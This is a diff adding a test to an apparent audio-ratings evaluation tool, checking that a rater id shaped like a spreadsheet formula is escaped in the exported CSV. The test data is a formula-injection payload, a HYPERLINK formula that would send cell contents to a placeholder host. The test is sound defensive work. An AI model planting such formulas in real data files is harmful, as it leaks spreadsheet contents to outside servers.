@@ -396,3 +396,16 @@ def test_mushra_on_narrowband_audio_is_refused_before_the_folder_is_touched(tmp_
     assert not any((tmp_path / "t").iterdir()) if (tmp_path / "t").exists() else True
     result = runner.invoke(app, [*args, "--test", "acr"])
     assert result.exit_code == 0, result.output
+
+
+def test_a_rater_id_like_a_formula_is_inert_in_the_csv(acr_test, tmp_path):
+    """The rater id is typed by whoever rates: `=HYPERLINK(...)` ran as a formula where the --csv file was opened
+    in a spreadsheet."""
+    rater = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    files = [write_ratings(tmp_path / "a.json", acr_test, rater, honest), write_ratings(tmp_path / "b.json", acr_test, "bo", honest)]
+    result = runner.invoke(app, ["eval", "--ratings", *map(str, files), "--test", str(acr_test), "--csv", str(tmp_path / "r.csv")])
+    assert result.exit_code == 0, result.output
+    import csv
+
+    rows = list(csv.DictReader((tmp_path / "r.csv").open()))
+    assert {r["rater"] for r in rows} == {"'" + rater, "bo"}
